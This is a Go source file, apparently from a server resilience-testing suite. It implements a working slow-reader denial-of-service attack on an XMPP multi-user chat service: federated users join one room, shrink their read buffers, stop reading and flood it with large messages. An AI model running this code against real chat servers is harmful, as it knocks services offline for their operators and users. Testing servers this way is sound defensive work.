// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

const (
	// occupants is how many users each partner has in the room.
	occupants = 8
	// bodySize is the size of each message to the room, in bytes.
	bodySize = 20000
)

// SlowReaders has partners join one room with several users each, stop reading, and send to it.
func SlowReaders(partners int) Attack {
	return Attack{
		Name: fmt.Sprintf("%d partners in one room that stop reading", partners), Limit: time.Minute,
		Do: func(ctx context.Context, target Target) (string, error) {
			user, err := openRoom(ctx, target)
			if err != nil {
				return "", err
			}
			defer func() { _ = user.Close() }()
			var streams []*stream
			for i := range partners {
				s, err := join(ctx, target, fmt.Sprintf("slow%d.example", i))
				if err != nil {
					return "", err
				}
				defer func() { _ = s.Close() }()
				streams = append(streams, s)
			}
			text := strings.Repeat("x", bodySize)
			var flood sync.WaitGroup
			for i, s := range streams {
				flood.Go(func() {
					s.flood(ctx, fmt.Sprintf("<message from='u0@slow%d.example/x' to='room@%s' type='groupchat'><body>%s</body></message>",
						i, target.Rooms, text))
				})
			}
			flood.Wait()
			return "", nil
		},
	}
}

// openRoom has the attacking user open a room for everybody, and read what is said there.
func openRoom(ctx context.Context, target Target) (*stream, error) {
	user, err := login(ctx, target, target.Attacker)
	if err != nil {
		return nil, err
	}
	room := "room@" + target.Rooms
	err = user.exchange("<presence to='"+room+"/local'><x xmlns='http://jabber.org/protocol/muc'/></presence>", "status code='201'")
	if err == nil {
		err = user.exchange("<iq type='set' id='room' to='"+room+"'><query xmlns='http://jabber.org/protocol/muc#owner'>"+
			"<x xmlns='jabber:x:data' type='submit'/></query></iq>", "id='room'")
	}
	if err != nil {
		_ = user.Close()
		return nil, fmt.Errorf("opening a room: %w", err)
	}
	_ = user.SetReadDeadline(time.Time{})
	go func() { _, _ = io.Copy(io.Discard, user.Conn) }()
	return user, nil
}

// join has users of domain join the room, on a stream whose small window fills soon.
func join(ctx context.Context, target Target, domain string) (*stream, error) {
	s, err := federate(ctx, target, domain, target.Rooms, target.Issue(domain))
	if err != nil {
		return nil, err
	}
	if conn, ok := s.Conn.(*tls.Conn).NetConn().(*net.TCPConn); ok {
		_ = conn.SetReadBuffer(4096)
	}
	for i := range occupants {
		err := s.send("<presence from='u%d@%s/x' to='room@%s/%s-%d'><x xmlns='http://jabber.org/protocol/muc'>"+
			"<history maxstanzas='0'/></x></presence>", i, domain, target.Rooms, domain, i)
		if err != nil {
			_ = s.Close()
			return nil, fmt.Errorf("joining the room from %s: %w", domain, err)
		}
	}
	return s, nil
}
